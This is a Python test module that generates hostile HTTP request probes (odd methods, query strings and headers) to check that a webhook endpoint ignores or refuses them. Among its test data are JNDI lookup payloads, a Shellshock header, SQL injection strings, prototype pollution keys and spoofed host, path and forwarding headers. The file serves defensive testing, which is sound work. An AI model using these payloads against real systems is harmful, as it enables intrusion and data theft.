"""What strangers put around a body: methods, queries, headers. None of it may change anything."""

from collections.abc import Callable, Iterator
from typing import Any

from support.probes.probe import (
    ACCEPTED,
    CANARY,
    JSON,
    UNAUTHORIZED,
    WRONG_METHOD,
    Headers,
    Make,
    Probe,
)

_GUARD = "the local stack's guard refuses it before the gateway sees it; AWS has none"
_NOT_SERVED = "the HTTP server or the gateway answers it, and never a function"
_METHODS = {"PATCH": "", "TRACE": _NOT_SERVED, "CONNECT": _NOT_SERVED, "PROPFIND": _NOT_SERVED}
_SPELLINGS = ("post", "POST ", "POSTS", "\u0420OST", f"POST\n{CANARY}", "")
_OVERRIDES: tuple[Headers, ...] = (
    (("X-HTTP-Method-Override", "POST"),),
    (("X-HTTP-Method", "POST"), ("X-Method-Override", "POST")),
)
_QUERIES = {
    "the path's names": "store=other&topic=other&token=other&platform=other",
    "a name twice": f"store=one&store=two&a={CANARY}&a=2",
    "lists of PHP and Rails": "store[]=one&store[a][b]=two&token%5B%5D=x",
    "line breaks": f"a=%0D%0A{CANARY}&%0Ab=1",
    "ANSI escapes": f"a=%1B[2J%1B[31m{CANARY}",
    "nulls": "a=%00&%00=b",
    "broken UTF-8": "a=%FF%FE&%C0%AF=1",
    "no hexadecimal": "a=%zz&b=%",
    "names of prototypes": "__proto__[x]=1&constructor[prototype][x]=1",
    "another method": "_method=DELETE&_HttpMethod=GET&x-http-method-override=GET",
    "another body": "body=%7B%22id%22:1%7D&json=%7B%7D&callback=alert",
    "separators alone": "&&&;;==&",
    "1,000 names": "&".join(f"a{number}" for number in range(1_000)),
    "4,000 characters": "a=" + "x" * 4_000,
    "SQL": "id=1'%20OR%20'1'='1",
    "a lookup": "a=$%7Bjndi:ldap://host.example/a%7D",
    "question marks": "a=1?b=2?c=3",
}
_HEADERS: dict[str, Headers] = {
    "other places": (("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin")),
    "other hosts": (("X-Forwarded-Host", "host.example"), ("X-Host", f"{CANARY}.example")),
    "other senders": (("X-Forwarded-For", "127.0.0.1, ::1"), ("X-Real-IP", CANARY)),
    "other protocols": (("X-Forwarded-Proto", "javascript"), ("X-Forwarded-Port", "0")),
    "forwarded": (("Forwarded", f"for=127.0.0.1;host={CANARY};proto=http"),),
    "other methods": (("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "GET")),
    "other parameters": (("store", "other"), ("topic", "other"), ("token", "other")),
    "our own ids": (("X-Amzn-RequestId", CANARY), ("X-Amzn-Trace-Id", f"Root={CANARY}")),
    "our own words": (("metadata", "{}"), ("event-id", CANARY), ("detail-type", "a.b")),
    "prototypes": (("__proto__", "x"), ("constructor", "x")),
    "authorization": (("Authorization", f"Bearer {CANARY}"), ("X-Api-Key", CANARY)),
    "basic authorization": (("Authorization", "Basic YWRtaW46YWRtaW4="),),
    "a signature": (("X-Hub-Signature-256", f"sha256={CANARY}"),),
    "a lookup": (("User-Agent", "${jndi:ldap://host.example/a}"), ("Referer", CANARY)),
    "ANSI escapes": (("X-Note", f"\x1b[2J\x1b[31m{CANARY}"),),
    "SQL": (("User-Agent", "1' OR '1'='1"), ("Cookie", "id=1' OR '1'='1")),
    "a shell": (("User-Agent", "() { :; }; echo x"),),
    "a name twice": (("X-Note", CANARY), ("X-Note", "other"), ("x-note", "third")),
    "200 names": tuple((f"X-Note-{number}", "x") for number in range(200)),
    "4,000 characters": (("X-Note", CANARY + "x" * 4_000),),
    "200 cookies": (("Cookie", "; ".join(f"a{number}={CANARY}" for number in range(200))),),
    "ranges": (("Range", "bytes=0-0"), ("If-None-Match", "*"), ("If-Match", "x")),
    "other languages": (("Accept", "text/html"), ("Accept-Charset", "utf-16")),
    "a proxy's": (("Via", CANARY), ("Max-Forwards", "0"), ("X-Wap-Profile", CANARY)),
    "an upgrade": (("Upgrade-Insecure-Requests", "1"), ("X-Upgrade", "h2c")),
    "Latin letters with accents": (("X-Note", "a\u00e9"),),
}
_AT_THE_GUARD: dict[str, Headers] = {
    "a web page": (("Origin", "https://host.example"), ("Sec-Fetch-Site", "cross-site")),
    "another host": (("Host", "host.example"),),
    "AWS credentials": (("Authorization", f"AWS4-HMAC-SHA256 Credential={CANARY}"),),
}
_PROOF_ELSEWHERE: dict[str, Callable[[str], dict[str, Any]]] = {
    "query": lambda token: {"query": f"token={token}&access_token={token}"},
    "headers": lambda token: {
        "headers": (*JSON, ("Authorization", f"Bearer {token}"), ("X-Api-Key", token))
    },
    "cookie": lambda token: {"headers": (*JSON, ("Cookie", f"token={token}"))},
    "body": lambda token: {"body": f'{{"token":"{token}"}}'.encode()},
}


def request_probes() -> Iterator[Probe]:
    yield from _methods()
    for name, query in _QUERIES.items():
        yield Probe("query", name, _with(query=query), ACCEPTED)
    for name, headers in _HEADERS.items():
        yield Probe("headers", name, _with(headers=(*JSON, *headers)), ACCEPTED)
    for name, headers in _AT_THE_GUARD.items():
        make = _with(headers=(*JSON, *headers))
        yield Probe("headers", name, make, ACCEPTED, only_in_memory=_GUARD)
    query = f"X-Amz-Credential={CANARY}&X-Amz-Signature=x"
    yield Probe("query", "AWS credentials", _with(query=query), ACCEPTED, only_in_memory=_GUARD)
    for place in _PROOF_ELSEWHERE:
        yield Probe("token in another place", place, _proof_in(place), UNAUTHORIZED)


def _methods() -> Iterator[Probe]:
    for method, reason in _METHODS.items():
        make = _with(method=method)
        yield Probe("method", method, make, WRONG_METHOD, only_in_memory=reason)
    for method in _SPELLINGS:
        make = _with(method=method)
        yield Probe("method", repr(method), make, WRONG_METHOD, only_in_memory=_NOT_SERVED)
    for headers in _OVERRIDES:
        make = _with(method="GET", headers=(*JSON, *headers))
        yield Probe("method", f"GET and {headers[0][0]}", make, WRONG_METHOD)
    make = _with(method="GET", query="_method=POST")
    yield Probe("method", "GET and _method=POST", make, WRONG_METHOD)
    yield Probe("method", "PUT without proof", _unproved("PUT"), UNAUTHORIZED)
    yield Probe("method", "PATCH without proof", _unproved("PATCH"), UNAUTHORIZED)


def _with(**changes: Any) -> Make:
    return lambda g: g.post(**changes)


def _unproved(method: str) -> Make:
    return lambda g: g.post(method=method, path=g.path(token="k1.1." + "A" * 43))


def _proof_in(place: str) -> Make:
    changes = _PROOF_ELSEWHERE[place]
    return lambda g: g.post(path=g.path(token="-"), **changes(g.token))
